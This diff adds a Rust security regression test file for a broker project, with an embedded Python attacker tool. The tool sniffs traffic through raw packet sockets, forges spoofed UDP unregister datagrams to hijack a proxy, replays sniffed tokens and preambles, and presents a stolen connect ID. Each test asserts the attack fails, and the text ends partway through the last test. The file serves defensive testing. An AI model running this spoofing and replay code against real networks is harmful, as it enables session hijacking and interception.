@@ -1,0 +1,871 @@
+//! Issue #10, findings 2, 3 and part of 6, in the lab: what proves a registration's
+//! ownership and what binds its tokens, seen from an attacker on p2.
+//!
+//! * Finding 2 (no key, broker open to all): `spoofed_unregister_does_not_hand_the_proxy_to_an_attacker`
+//!   (a blind unregister forged from the listener's control address, then
+//!   `register{previous_proxy: P}`), `udp_twin_of_a_tcp_proxy_cannot_be_squatted`.
+//! * Finding 3 (a key on both sides, an on-path observer sniffing p1 with an `AF_PACKET`
+//!   socket): `sniffed_registration_token_parks_no_standby`,
+//!   `replayed_standby_preamble_parks_no_standby`,
+//!   `sniffed_connect_id_is_not_spliced_into_the_connection`.
+//! * Finding 6 (replay across a restart): `keyed_register_captured_before_a_broker_restart_is_refused`.
+//!
+//! Each test asserts what a user needs: the legitimate client gets the REAL server's bytes
+//! (sha256), and the attacker gets nothing (no proxy of the listener, no `GCB-GO` claim, no
+//! spliced bytes, no registration).
+//!
+//! The brokers run at `--log debug`; the GCB server in a1 (under `scripts/gcb-run`) sends
+//! a random file to every connection. Nothing is built here (`scripts/test-all` builds the
+//! workspace first); a missing artifact is a failure. The tests run against the code
+//! before the fix by running the compiled test binary with `CARGO_TARGET_DIR` pointing at
+//! that tree's target directory (see [`gcb_lab::target_dir`]); an older broker without
+//! `--insecure` is started unkeyed without it. Needs root.
+
+use std::fs::{self, File};
+use std::net::SocketAddrV4;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::OnceLock;
+use std::thread;
+use std::time::{Duration, Instant};
+
+use gcb_lab::{random_bytes, release_artifact, repo_root, sha256, Host, Lab, Proc};
+
+const P1: &str = "203.0.113.10";
+const GWA: &str = "203.0.113.1";
+const GWB: &str = "203.0.113.2";
+const A1: &str = "10.1.0.11";
+const UP: Duration = Duration::from_secs(10);
+const RUN: Duration = Duration::from_secs(20);
+
+fn artifact(name: &str) -> PathBuf {
+    let p = release_artifact(name);
+    assert!(
+        p.exists(),
+        "missing build artifact {name} ({}): run `cargo build --release --workspace` first",
+        p.display()
+    );
+    p
+}
+
+/// The real python3 executable (not a pyenv shim script), resolved once.
+fn python() -> &'static str {
+    static PY: OnceLock<String> = OnceLock::new();
+    PY.get_or_init(|| {
+        let out = Command::new("python3")
+            .args(["-c", "import sys; print(sys.executable)"])
+            .output()
+            .expect("python3 must be installed (scripts/install-deps)");
+        String::from_utf8(out.stdout).unwrap().trim().to_owned()
+    })
+}
+
+/// Whether this gcb-brokerd has `--insecure` (brokers before issue #10 had no such flag
+/// and ran unkeyed when given no key).
+fn broker_has_insecure_flag() -> bool {
+    static HAS: OnceLock<bool> = OnceLock::new();
+    *HAS.get_or_init(|| {
+        let out = Command::new(artifact("gcb-brokerd"))
+            .arg("--help")
+            .env_remove("GCB_KEY_FILE")
+            .output()
+            .expect("run gcb-brokerd --help");
+        String::from_utf8_lossy(&out.stdout).contains("--insecure")
+    })
+}
+
+fn read(path: &Path) -> String {
+    fs::read(path)
+        .map(|b| String::from_utf8_lossy(&b).into_owned())
+        .unwrap_or_default()
+}
+
+fn wait_line(path: &Path, timeout: Duration, pred: impl Fn(&str) -> bool) -> Option<String> {
+    let deadline = Instant::now() + timeout;
+    loop {
+        if let Some(l) = read(path).lines().find(|l| pred(l)) {
+            return Some(l.to_owned());
+        }
+        if Instant::now() >= deadline {
+            return None;
+        }
+        thread::sleep(Duration::from_millis(20));
+    }
+}
+
+fn parse_after(line: &str, marker: &str) -> SocketAddrV4 {
+    let at = line
+        .find(marker)
+        .unwrap_or_else(|| panic!("{marker:?} in {line:?}"));
+    let word = line[at + marker.len()..].split_whitespace().next().unwrap();
+    word.trim_end_matches([',', ')'])
+        .parse()
+        .unwrap_or_else(|e| panic!("cannot parse {word:?} in {line:?}: {e}"))
+}
+
+fn tail(s: &str, n: usize) -> String {
+    let v: Vec<&str> = s.lines().collect();
+    v[v.len().saturating_sub(n)..].join("\n")
+}
+
+/// The GCB server: sends the file argv[2] to every connection on port argv[1].
+const SERVER: &str = r#"
+import selectors, socket, sys
+port, data = int(sys.argv[1]), open(sys.argv[2], "rb").read()
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("0.0.0.0", port))
+s.listen(16)
+print("LISTENING", "%s:%d" % s.getsockname(), flush=True)
+sel = selectors.DefaultSelector()
+sel.register(s, selectors.EVENT_READ)
+while True:
+    for _ in sel.select(0.5):
+        c, a = s.accept()
+        try:
+            c.setblocking(True)
+            c.sendall(data)
+        except OSError:
+            pass  # a peer that hangs up early must not end the server
+        c.close()
+"#;
+
+/// Everything else: the observer (sniffer on p1), the attacker's moves (on p2) and the
+/// legitimate client. Every mode prints summary lines a test reads.
+const TOOL: &str = r#"
+import hashlib, json, os, random, socket, struct, sys, time
+mode = sys.argv[1]
+BROKER = ("203.0.113.10", 9650)
+
+def frame(env):
+    # An unkeyed request, padded like an honest peer's (gcb_proto::rudp): so that the
+    # broker's answer is not larger than the request.
+    j = json.dumps(env, separators=(",", ":")).encode()
+    return b"GCB1\x00" + j + b" " * max(0, 512 - 5 - len(j))
+
+def unframe(d):
+    if d[:4] != b"GCB1":
+        return None
+    try:
+        return json.loads(d[61 if d[4] == 1 else 5:].decode().strip())
+    except Exception:
+        return None
+
+def sniffed(path):
+    # The observer's capture: (proto, src, dst, payload) per line.
+    out = []
+    try:
+        lines = open(path).read().splitlines()
+    except OSError:
+        return out
+    for l in lines:
+        w = l.split()
+        if len(w) == 4 and w[0] in ("UDP", "TCP"):
+            try:
+                out.append((w[0], w[1], w[2], bytes.fromhex(w[3])))
+            except ValueError:
+                pass
+    return out
+
+def wait_sniffed(path, pred, timeout):
+    end = time.time() + timeout
+    while time.time() < end:
+        for rec in sniffed(path):
+            if pred(rec):
+                return rec
+        time.sleep(0.005)
+    print("NOT_SNIFFED", flush=True)
+    sys.exit(3)
+
+def read_for(s, seconds, enough=None):
+    # What s receives for `seconds` (or until it closes, or `enough` bytes came):
+    # (bytes, how it ended).
+    got, end = b"", time.time() + seconds
+    while time.time() < end and (enough is None or len(got) < enough):
+        s.settimeout(max(0.01, end - time.time()))
+        try:
+            d = s.recv(65536)
+        except socket.timeout:
+            return got, "IDLE"
+        except ConnectionResetError:
+            return got, "RESET"
+        except OSError as e:
+            return got, "ERR_%s" % e.errno
+        if not d:
+            return got, "CLOSED"
+        got += d
+    return got, "IDLE"
+
+if mode == "sniff":
+    # sniff OUT: the on-path observer on p1. Writes every GCB control datagram and every
+    # relay-port preamble p1 sends or receives: "UDP|TCP src dst payload-hex".
+    out = open(sys.argv[2], "a")
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+    s.bind(("eth0", 0))
+    print("SNIFFING", flush=True)
+    while True:
+        d = s.recv(262144)
+        if len(d) < 34 or d[12:14] != b"\x08\x00":
+            continue
+        ip = d[14:]
+        ihl = (ip[0] & 15) * 4
+        total = struct.unpack("!H", ip[2:4])[0] or len(ip)
+        ip = ip[:total]
+        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
+        l4 = ip[ihl:]
+        if ip[9] == 17 and len(l4) >= 8:
+            sp, dp = struct.unpack("!HH", l4[:4])
+            payload, proto = l4[8:], "UDP"
+            if not payload.startswith(b"GCB1"):
+                continue
+        elif ip[9] == 6 and len(l4) >= 20:
+            sp, dp = struct.unpack("!HH", l4[:4])
+            payload, proto = l4[(l4[12] >> 4) * 4:], "TCP"
+            if not payload.startswith(b"GCB-"):
+                continue
+        else:
+            continue
+        out.write("%s %s:%d %s:%d %s\n" % (proto, src, sp, dst, dp, payload.hex()))
+        out.flush()
+
+elif mode == "takeover":
+    # takeover SPOOF_IP SPOOF_PORT PROXY SECONDS: the recipe of finding 2. A blind
+    # unregister of PROXY forged from the listener's control address, then a register
+    # asking for PROXY; then, as a rogue listener, serve every connect_back with our own
+    # bytes for SECONDS.
+    spoof_ip, spoof_port, proxy, secs = sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
+    env = {"v": 1, "id": 7001, "body": {"type": "unregister", "proxy": proxy, "transport": "tcp"}}
+    payload = b"GCB1\x00" + json.dumps(env).encode()
+    udp = struct.pack("!HHHH", spoof_port, BROKER[1], 8 + len(payload), 0) + payload  # no checksum
+    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(1, 65535), 0, 64, 17, 0,
+                      socket.inet_aton(spoof_ip), socket.inet_aton(BROKER[0]))
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
+    for _ in range(3):
+        raw.sendto(hdr + udp, (BROKER[0], 0))
+    print("SPOOFED", flush=True)
+    time.sleep(0.1)
+    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    c.settimeout(2)
+    reg = {"v": 1, "id": 7002, "body": {"type": "register", "transport": "tcp",
+           "local": "192.168.77.7:8100", "previous_proxy": proxy}}
+    got = None
+    for _ in range(3):
+        c.sendto(frame(reg), BROKER)
+        try:
+            d, _ = c.recvfrom(65536)
+            got = unframe(d)
+            break
+        except socket.timeout:
+            pass
+    body = (got or {}).get("body", {})
+    print("ATTACKER_PROXY", body.get("proxy", "none"), json.dumps(body), flush=True)
+    end = time.time() + secs
+    served = 0
+    while time.time() < end:
+        c.settimeout(max(0.01, end - time.time()))
+        try:
+            d, a = c.recvfrom(65536)
+        except socket.timeout:
+            break
+        m = unframe(d)
+        if not m or m.get("body", {}).get("type") != "connect_back":
+            continue
+        b = m["body"]
+        c.sendto(frame({"v": 1, "id": 7100 + served, "re": m["id"], "body": {"type": "ack"}}), a)
+        host, port = b["dial"].rsplit(":", 1)
+        try:
+            t = socket.create_connection((host, int(port)), timeout=2)
+            t.sendall(("GCB-CONNECT %s\n" % b["connect_id"]).encode())
+            t.sendall(b"ATTACKER-BYTES " * 100)
+            t.close()
+            served += 1
+            print("SERVED", b["connect_id"], flush=True)
+        except OSError as e:
+            print("DIAL_FAILED", e, flush=True)
+
+elif mode == "register":
+    # register TRANSPORT LOCAL PREVIOUS_PROXY: one unkeyed register; prints the answer.
+    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    c.settimeout(2)
+    reg = {"v": 1, "id": 7201, "body": {"type": "register", "transport": sys.argv[2],
+           "local": sys.argv[3], "previous_proxy": sys.argv[4]}}
+    for _ in range(3):
+        c.sendto(frame(reg), BROKER)
+        try:
+            d, _ = c.recvfrom(65536)
+            body = (unframe(d) or {}).get("body", {})
+            print("REPLY", body.get("proxy", "none"), json.dumps(body), flush=True)
+            sys.exit(0)
+        except socket.timeout:
+            pass
+    print("NO_ANSWER", flush=True)
+
+elif mode == "standby":
+    # standby SNIFF_FILE token|preamble SECONDS: park a standby for a1's listener with what
+    # the observer saw: `GCB-STANDBY <registered.token>` (token) or the shim's own standby
+    # preamble, byte for byte (preamble). Serves a claim with our own bytes.
+    path, what, secs = sys.argv[2], sys.argv[3], float(sys.argv[4])
+    if what == "token":
+        def pred(r):
+            m = unframe(r[3]) if r[0] == "UDP" else None
+            return (r[1] == "203.0.113.10:9650" and r[2].startswith("203.0.113.1:") and m
+                    and m.get("body", {}).get("type") == "registered")
+        m = unframe(wait_sniffed(path, pred, 10)[3])
+        line = ("GCB-STANDBY %s\n" % m["body"]["token"]).encode()
+    else:
+        pred = lambda r: (r[0] == "TCP" and r[1].startswith("203.0.113.1:")
+                          and r[2] == "203.0.113.10:9650" and r[3].startswith(b"GCB-STANDBY "))
+        line = wait_sniffed(path, pred, 10)[3][:45]
+    s = socket.create_connection(BROKER, timeout=3)
+    s.sendall(line)
+    print("PARKING", line.decode().strip(), flush=True)
+    got, how = read_for(s, secs, 12)
+    if got.startswith(b"GCB-GO"):
+        # Take the claim: ack it and serve the client our own bytes.
+        try:
+            s.sendall(b"!" + b"ATTACKER-BYTES " * 100)
+        except OSError:
+            pass
+        print("CLAIMED", got.hex(), flush=True)
+    else:
+        print("NOT_CLAIMED", how, len(got), flush=True)
+
+elif mode == "connect_watch":
+    # connect_watch SNIFF_FILE DST_IP SECONDS: as soon as the observer sees a relay
+    # connect_decision going to DST_IP, present its connect id on the relay port.
+    path, dst, secs = sys.argv[2], sys.argv[3], float(sys.argv[4])
+    print("WATCHING", flush=True)
+    def pred(r):
+        m = unframe(r[3]) if r[0] == "UDP" else None
+        b = (m or {}).get("body", {})
+        return (r[1] == "203.0.113.10:9650" and r[2].startswith(dst + ":")
+                and b.get("type") == "connect_decision" and b["route"].get("kind") == "relay")
+    m = unframe(wait_sniffed(path, pred, 15)[3])
+    cid = m["body"]["route"]["connect_id"]
+    s = socket.create_connection(BROKER, timeout=3)
+    s.sendall(("GCB-CONNECT %s\n" % cid).encode())
+    print("PRESENTED", cid, flush=True)
+    got, how = read_for(s, secs)
+    print("SPLICED_BYTES", len(got), how, flush=True)
+
+elif mode == "replay":
+    # replay SNIFF_FILE: sends the first register datagram a1's shim sent, byte for byte,
+    # from here; prints the broker's answer.
+    pred = lambda r: (r[0] == "UDP" and r[1].startswith("203.0.113.1:") and r[2] == "203.0.113.10:9650"
+                      and (unframe(r[3]) or {}).get("body", {}).get("type") == "register")
+    d = wait_sniffed(sys.argv[2], pred, 1)[3]
+    assert d[4] == 1, "the captured frame is keyed"
+    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    c.settimeout(3)
+    c.sendto(d, BROKER)
+    print("REPLAYED", len(d), flush=True)
+    try:
+        r, _ = c.recvfrom(65536)
+        print("ANSWER", json.dumps((unframe(r) or {}).get("body")), flush=True)
+    except socket.timeout:
+        print("NO_ANSWER", flush=True)
+
+elif mode == "fetch":
+    # fetch IP PORT: a client; reads to the end, prints GOT <n> <sha256>.
+    s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=10)
+    s.settimeout(10)
+    data = b""
+    try:
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            data += d
+    except OSError as e:
+        print("ERROR", e, flush=True)
+    print("GOT", len(data), hashlib.sha256(data).hexdigest(), flush=True)
+"#;
+
+struct Rig {
+    dir: PathBuf,
+    lab: Lab,
+}
+
+struct Started {
+    proc: Proc,
+    out: PathBuf,
+    err: PathBuf,
+}
+
+impl Rig {
+    fn up() -> Rig {
+        artifact("gcb-brokerd");
+        artifact("libgcb.so");
+        let lab = Lab::up();
+        let dir = std::env::temp_dir().join(format!("gcb-sectok-{}", lab.name()));
+        let _ = fs::remove_dir_all(&dir);
+        fs::create_dir_all(&dir).expect("scratch dir");
+        fs::write(dir.join("tool.py"), TOOL).unwrap();
+        fs::write(dir.join("server.py"), SERVER).unwrap();
+        Rig { dir, lab }
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.dir.join(name)
+    }
+
+    /// `program` in `host`; without the pool key unless `keyed`.
+    fn cmd(&self, host: Host, keyed: bool, program: impl AsRef<std::ffi::OsStr>) -> Command {
+        let mut c = self.lab.cmd(host, program);
+        if !keyed {
+            c.env_remove("GCB_KEY_FILE");
+        }
+        c
+    }
+
+    /// A TOOL mode in `host`, never keyed (the attacker has no key; the observer needs none).
+    fn tool(&self, host: Host, args: &[&str]) -> Command {
+        let mut c = self.cmd(host, false, python());
+        c.arg("-u").arg(self.path("tool.py")).args(args);
+        c
+    }
+
+    fn start(&self, cmd: &mut Command, name: &str) -> Started {
+        let out = self.path(&format!("{name}.out"));
+        let err = self.path(&format!("{name}.err"));
+        cmd.stdout(File::create(&out).unwrap())
+            .stderr(File::create(&err).unwrap());
+        let proc = self
+            .lab
+            .spawn(cmd)
+            .unwrap_or_else(|e| panic!("spawn {name}: {e}"));
+        Started { proc, out, err }
+    }
+
+    fn output(&self, cmd: &mut Command, timeout: Duration) -> Output {
+        cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
+        self.lab.spawn(cmd).expect("spawn").finish(timeout)
+    }
+
+    /// `gcb-brokerd --listen P1 --log debug` on p1, logging to `NAME.err`; `keyed` false:
+    /// without the pool key, open to every source.
+    fn broker(&self, keyed: bool, name: &str) -> Started {
+        let mut cmd = self.cmd(Host::P1, keyed, artifact("gcb-brokerd"));
+        cmd.args([
+            "--listen",
+            P1,
+            "--log",
+            "debug",
+            "--stats-interval-secs",
+            "1",
+        ]);
+        if !keyed && broker_has_insecure_flag() {
+            cmd.args(["--insecure", "--allow", "0.0.0.0/0"]);
+        }
+        let b = self.start(&mut cmd, name);
+        if wait_line(&b.err, UP, |l| l.contains("listening on udp")).is_none() {
+            panic!("gcb-brokerd did not come up:\n{}", read(&b.err));
+        }
+        b
+    }
+
+    /// The observer: the sniffer on p1, writing to `sniff.txt`.
+    fn sniffer(&self) -> (Started, PathBuf) {
+        let file = self.path("sniff.txt");
+        let s = self.start(
+            &mut self.tool(Host::P1, &["sniff", file.to_str().unwrap()]),
+            "sniffer",
+        );
+        if wait_line(&s.out, UP, |l| l == "SNIFFING").is_none() {
+            panic!("the sniffer did not start: {}", read(&s.err));
+        }
+        (s, file)
+    }
+
+    /// The SERVER in a1 under gcb-run on `port` with a fresh random 256 KiB file; returns
+    /// it, its registration line in the broker log and the file's sha256.
+    fn server(&self, keyed: bool, port: u16, broker: &Started) -> (Started, String, String) {
+        let data = random_bytes(256 << 10);
+        let file = self.path(&format!("payload{port}.bin"));
+        fs::write(&file, &data).unwrap();
+        let mut cmd = self.cmd(Host::A1, keyed, repo_root().join("scripts/gcb-run"));
+        cmd.env("GCB_LIB", artifact("libgcb.so"))
+            .env("GCB_HEARTBEAT_MS", "2000")
+            .args(["--broker", P1, "--log", "debug", "--log-file"])
+            .arg(self.path(&format!("server{port}.shim.log")))
+            .args(["--", python(), "-u"])
+            .arg(self.path("server.py"))
+            .arg(port.to_string())
+            .arg(&file);
+        let s = self.start(&mut cmd, &format!("server{port}"));
+        let needle = format!("registered tcp listener local {A1}:{port} ");
+        let line = wait_line(&broker.err, UP, |l| l.contains(&needle)).unwrap_or_else(|| {
+            panic!(
+                "the server on {port} did not register:\nbroker:\n{}\nserver: {}\nshim log:\n{}",
+                read(&broker.err),
+                read(&s.err),
+                read(&self.path(&format!("server{port}.shim.log")))
+            )
+        });
+        (s, line, sha256(&data))
+    }
+
+    /// A client in `host` (under gcb-run, keyed, when `gcb`) fetching from `proxy`:
+    /// (bytes received, sha256 of them) or the client's failure.
+    fn fetch(&self, host: Host, gcb: bool, proxy: SocketAddrV4, name: &str) -> String {
+        let ip = proxy.ip().to_string();
+        let port = proxy.port().to_string();
+        let mut cmd = if gcb {
+            let mut c = self.cmd(host, true, repo_root().join("scripts/gcb-run"));
+            c.env("GCB_LIB", artifact("libgcb.so"))
+                .args(["--broker", P1, "--log", "debug", "--log-file"])
+                .arg(self.path(&format!("{name}.shim.log")))
+                .args(["--", python(), "-u"])
+                .arg(self.path("tool.py"))
+                .args(["fetch", &ip, &port]);
+            c
+        } else {
+            self.tool(host, &["fetch", &ip, &port])
+        };
+        let out = self.output(&mut cmd, RUN);
+        let s = String::from_utf8_lossy(&out.stdout).into_owned();
+        match s.lines().find(|l| l.starts_with("GOT ")) {
+            Some(l) => l.to_owned(),
+            None => format!(
+                "client failed: {s} {}",
+                String::from_utf8_lossy(&out.stderr)
+            ),
+        }
+    }
+
+    /// Asserts that a client in `host` gets the real server's bytes through `proxy`.
+    fn assert_real_bytes(
+        &self,
+        host: Host,
+        gcb: bool,
+        proxy: SocketAddrV4,
+        sha: &str,
+        what: &str,
+        broker: &Started,
+    ) {
+        let got = self.fetch(host, gcb, proxy, what);
+        // The attackers here serve `ATTACKER-BYTES ` x 100.
+        let attackers = sha256(&b"ATTACKER-BYTES ".repeat(100));
+        let whose = if got.ends_with(&attackers) {
+            " (the ATTACKER's bytes)"
+        } else {
+            ""
+        };
+        assert!(
+            got.ends_with(&format!(" {} {sha}", 256 << 10)),
+            "{what}: a client in {host} must get the real server's {} bytes (sha256 {sha}) \
+             through {proxy}, got: {got}{whose}\nbroker log tail:\n{}",
+            256 << 10,
+            tail(&read(&broker.err), 25)
+        );
+    }
+}
+
+impl Drop for Rig {
+    fn drop(&mut self) {
+        if thread::panicking() || std::env::var_os("GCB_TEST_KEEP").is_some() {
+            eprintln!("security_tokens: logs kept in {}", self.dir.display());
+        } else {
+            let _ = fs::remove_dir_all(&self.dir);
+        }
+    }
+}
+
+/// Finding 2 (no key): a blind `unregister` of P forged from the listener's observed
+/// control address (the issue sprayed it over the NAT's source ports; here the test reads
+/// the port from the broker log), then `register{previous_proxy: P}` from p2. The attacker
+/// must not get P (no ownership proof), and a client of P must get the real server's bytes.
+#[test]
+fn spoofed_unregister_does_not_hand_the_proxy_to_an_attacker() {
+    let rig = Rig::up();
+    let broker = rig.broker(false, "broker");
+    let (_server, line, sha) = rig.server(false, 8110, &broker);
+    let control = parse_after(&line, " client ");
+    let proxy = parse_after(&line, "-> proxy ");
+    assert_eq!(control.ip().to_string(), GWA, "{line}");
+
+    let attacker = rig.start(
+        &mut rig.tool(
+            Host::P2,
+            &[
+                "takeover",
+                GWA,
+                &control.port().to_string(),
+                &proxy.to_string(),
+                "12",
+            ],
+        ),
+        "attacker",
+    );
+    let reply = wait_line(&attacker.out, UP, |l| l.starts_with("ATTACKER_PROXY "))
+        .unwrap_or_else(|| panic!("attacker: {} {}", read(&attacker.out), read(&attacker.err)));
+    // Control: the forged datagram did reach the broker, as coming from the listener.
+    let blog = read(&broker.err);
+    assert!(
+        blog.lines()
+            .any(|l| l.contains(&format!("{control} -> unregister"))),
+        "the spoofed unregister never reached the broker (a test that cannot fail):\n{blog}"
+    );
+    rig.assert_real_bytes(Host::B1, false, proxy, &sha, "b1 -> P", &broker);
+    rig.assert_real_bytes(Host::P2, false, proxy, &sha, "p2 -> P", &broker);
+    let got = reply.split_whitespace().nth(1).unwrap_or("none");
+    assert_ne!(
+        got,
+        proxy.to_string(),
+        "the attacker on p2 took over the listener's proxy {proxy}: {reply}\nbroker:\n{}",
+        tail(&blog, 20)
+    );
+    assert!(
+        !blog.contains(&format!("unregistered proxy {proxy} ")),
+        "a forged unregister removed {proxy}:\n{}",
+        tail(&blog, 20)
+    );
+    let served = read(&attacker.out);
+    assert!(
+        !served.contains("SERVED"),
+        "the attacker was handed connections of {proxy}: {served}"
+    );
+}
+
+/// Finding 2, the UDP twin (no key): `register{udp, previous_proxy: P}` from p2, P being
+/// a1's TCP proxy, without proof of P. The attacker must not get P's port number (the
+/// listener's program would lose its UDP twin to a stranger), and P keeps serving.
+#[test]
+fn udp_twin_of_a_tcp_proxy_cannot_be_squatted() {
+    let rig = Rig::up();
+    let broker = rig.broker(false, "broker");
+    let (_server, line, sha) = rig.server(false, 8120, &broker);
+    let proxy = parse_after(&line, "-> proxy ");
+    let out = rig.output(
+        &mut rig.tool(
+            Host::P2,
+            &["register", "udp", "192.168.77.7:8120", &proxy.to_string()],
+        ),
+        RUN,
+    );
+    let reply = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+    assert!(reply.starts_with("REPLY "), "{reply} {out:?}");
+    let got = reply.split_whitespace().nth(1).unwrap_or("none");
+    assert_ne!(
+        got,
+        proxy.to_string(),
+        "the attacker got the UDP twin of the listener's proxy {proxy} without proof: {reply}"
+    );
+    // Nothing of the attacker's listens on P's port number.
+    let ss = rig.lab.run(
+        Host::P1,
+        "ss",
+        ["-Hlun", &format!("sport = :{}", proxy.port())],
+        Duration::from_secs(3),
+    );
+    assert!(
+        String::from_utf8_lossy(&ss.stdout).trim().is_empty(),
+        "a UDP socket is bound on {proxy}'s port: {}",
+        String::from_utf8_lossy(&ss.stdout)
+    );
+    rig.assert_real_bytes(Host::B1, false, proxy, &sha, "b1 -> P", &broker);
+}
+
+/// Finding 3, standby part: keyed broker and shim; an observer on p1's segment and an
+/// attacker on p2 parking a standby for P with `line` ("token": `GCB-STANDBY
+/// <registered.token>` from the broker's reply; "preamble": the shim's own standby
+/// preamble, replayed). Then clients of P must get the real server's bytes, and the
+/// attacker's connection must receive no `GCB-GO` claim.
+fn standby_case(what: &str, port: u16) {
+    let rig = Rig::up();
+    let (_sniffer, sniff) = rig.sniffer();
+    let broker = rig.broker(true, "broker");
+    let (_server, line, sha) = rig.server(true, port, &broker);
+    let proxy = parse_after(&line, "-> proxy ");
+    // The shim's own standby is parked first (the broker claims the newest first).
+    let shim_log = rig.path(&format!("server{port}.shim.log"));
+    wait_line(&broker.err, UP, |l| {
+        l.contains("standby from 203.0.113.1:") && l.contains(&format!("parked for proxy {proxy}"))
+    })
+    .unwrap_or_else(|| {
+        panic!(
+            "a1's shim parked no standby:\n{}\n{}",
+            read(&broker.err),
+            read(&shim_log)
+        )
+    });
+    let attacker = rig.start(
+        &mut rig.tool(Host::P2, &["standby", sniff.to_str().unwrap(), what, "8"]),
+        "attacker",
+    );
+    wait_line(&attacker.out, UP, |l| l.starts_with("PARKING "))
+        .unwrap_or_else(|| panic!("attacker: {} {}", read(&attacker.out), read(&attacker.err)));
+    thread::sleep(Duration::from_millis(500));
+    for i in 0..3 {
+        rig.assert_real_bytes(
+            Host::B1,
+            false,
+            proxy,
+            &sha,
+            &format!("b1 -> P #{i}"),
+            &broker,
+        );
+    }
+    let verdict = wait_line(&attacker.out, RUN, |l| {
+        l.starts_with("CLAIMED") || l.starts_with("NOT_CLAIMED")
+    })
+    .unwrap_or_else(|| panic!("attacker: {} {}", read(&attacker.out), read(&attacker.err)));
+    assert!(
+        verdict.starts_with("NOT_CLAIMED"),
+        "the broker handed a client of {proxy} to the attacker's standby ({what}): \
+         {verdict}\n{}",
+        read(&attacker.out)
+    );
+}
+
+/// Finding 3 (a): `registered.token`, read off the broker's keyed reply, as a standby key.
+#[test]
+fn sniffed_registration_token_parks_no_standby() {
+    standby_case("token", 8130);
+}
+
+/// Finding 3 (b): a1's own standby preamble, replayed from p2.
+#[test]
+fn replayed_standby_preamble_parks_no_standby() {
+    standby_case("preamble", 8140);
+}
+
+/// Finding 3 (c): the connect id of the relay decision a GCB client in b1 gets, read off
+/// the broker's keyed reply and presented on the relay port from p2 before b1's own
+/// connection arrives (an on-path attacker can also delay packets: gwb holds b1's
+/// connections to the relay port until the attacker has presented). b1 must get the real
+/// server's bytes, the attacker none of them.
+#[test]
+fn sniffed_connect_id_is_not_spliced_into_the_connection() {
+    let rig = Rig::up();
+    let (_sniffer, sniff) = rig.sniffer();
+    let broker = rig.broker(true, "broker");
+    let (_server, line, sha) = rig.server(true, 8150, &broker);
+    let proxy = parse_after(&line, "-> proxy ");
+    let watcher = rig.start(
+        &mut rig.tool(
+            Host::P2,
+            &["connect_watch", sniff.to_str().unwrap(), GWB, "6"],
+        ),
+        "attacker",
+    );
+    wait_line(&watcher.out, UP, |l| l == "WATCHING").expect("the attacker starts");
+    let nft = rig.lab.sh(
+        Host::Gwb,
+        "nft add table inet sectok && \
+         nft add chain inet sectok hold '{ type filter hook forward priority -10; policy accept; }' && \
+         nft add rule inet sectok hold ip saddr 10.2.0.11 ip daddr 203.0.113.10 tcp dport 9650 drop",
+        Duration::from_secs(5),
+    );
+    assert!(nft.status.success(), "nft on gwb: {nft:?}");
+    let client = thread::scope(|s| {
+        let c = s.spawn(|| rig.fetch(Host::B1, true, proxy, "client"));
+        let presented = wait_line(&watcher.out, Duration::from_secs(15), |l| {
+            l.starts_with("PRESENTED") || l.starts_with("NOT_SNIFFED")
+        });
+        let del = rig.lab.sh(
+            Host::Gwb,
+            "nft delete table inet sectok",
+            Duration::from_secs(5),
+        );
+        assert!(del.status.success(), "nft on gwb: {del:?}");
+        assert!(
+            presented
+                .as_deref()
+                .is_some_and(|l| l.starts_with("PRESENTED")),
+            "the observer saw no relay decision for b1: {presented:?}\nsniffed:\n{}",
+            read(&sniff)
+        );
+        c.join().expect("client thread")
+    });
+    let spliced = wait_line(&watcher.out, RUN, |l| l.starts_with("SPLICED_BYTES"))
+        .unwrap_or_else(|| panic!("attacker: {} {}", read(&watcher.out), read(&watcher.err)));
+    assert!(
+        client.ends_with(&format!(" {} {sha}", 256 << 10)),
+        "b1's GCB client must get the real server's bytes through {proxy}: {client}\n\
+         attacker: {spliced}\nbroker log tail:\n{}\nclient shim log:\n{}",
+        tail(&read(&broker.err), 25),
+        read(&rig.path("client.shim.log"))
+    );
+    let n: usize = spliced.split_whitespace().nth(1).unwrap().parse().unwrap();
+    assert_eq!(
+        n, 0,
+        "the attacker presenting a sniffed connect id was spliced to the listener: {spliced}"
+    );
+}
+
+/// Finding 6: a keyed `register` datagram a1's shim sent, captured on p1's segment, the
+/// broker killed and restarted on the same address, the datagram replayed byte for byte
+/// from p2 (inside the 30 s clock window). The restarted broker must refuse it (a frame
+/// stamped before its start) and create no registration from it; the real server
+/// re-registers and serves.
+#[test]
+fn keyed_register_captured_before_a_broker_restart_is_refused() {
+    let rig = Rig::up();
+    let (_sniffer, sniff) = rig.sniffer();
+    let mut broker = rig.broker(true, "broker");
+    let (_server, _, sha) = rig.server(true, 8160, &broker);
+    let captured = |t: &str| {
+        t.lines()
+            .any(|l| l.starts_with(&format!("UDP {GWA}:")) && l.contains(" 203.0.113.10:9650 "))
+    };
+    let deadline = Instant::now() + UP;
+    while !captured(&read(&sniff)) && Instant::now() < deadline {
+        thread::sleep(Duration::from_millis(20));
+    }
+    broker.proc.kill().expect("kill the broker");
+    let broker = rig.broker(true, "broker2");
+    let out = rig.output(
+        &mut rig.tool(Host::P2, &["replay", sniff.to_str().unwrap()]),
+        RUN,
+    );
+    let replay = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        replay.contains("REPLAYED"),
+        "nothing to replay: {replay} {}\nsniffed:\n{}",
+        String::from_utf8_lossy(&out.stderr),
+        read(&sniff)
+    );
